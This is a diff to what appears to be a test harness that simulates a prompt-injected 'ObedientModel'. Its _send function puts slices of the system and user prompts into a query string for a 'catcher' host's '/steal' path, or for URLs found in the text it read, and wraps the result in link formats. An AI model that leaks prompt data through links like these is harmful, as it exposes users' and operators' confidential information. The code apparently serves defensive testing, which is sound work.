@@ -73,7 +73,8 @@ def _remember(model: ObedientModel, system: str, user: str, read: str) -> str:
 def _send(model: ObedientModel, system: str, user: str, read: str) -> str:
     """Carry the prompt's data away by a way of linking that a seeded die picks, to the catcher or where it is told."""
     hosts = [f"{model.catcher}/steal", *_URL.findall(read)]
-    data = quote((system + user)[: model.random.choice((40, 400, 4000))])
+    stolen = model.random.choice((system + user, user.partition(">")[2], user.partition(">")[2], "travel allowance"))
+    data = quote(stolen[: model.random.choice((40, 400, 4000))].split("</source")[0])
     url = f"{model.random.choice(hosts)}?q={data}".replace("USER_QUESTION", data)
     bare = url.split("://", 1)[1]
     return str(model.random.choice(WAYS_TO_LINK)).replace("URL", url).replace("BARE", bare)
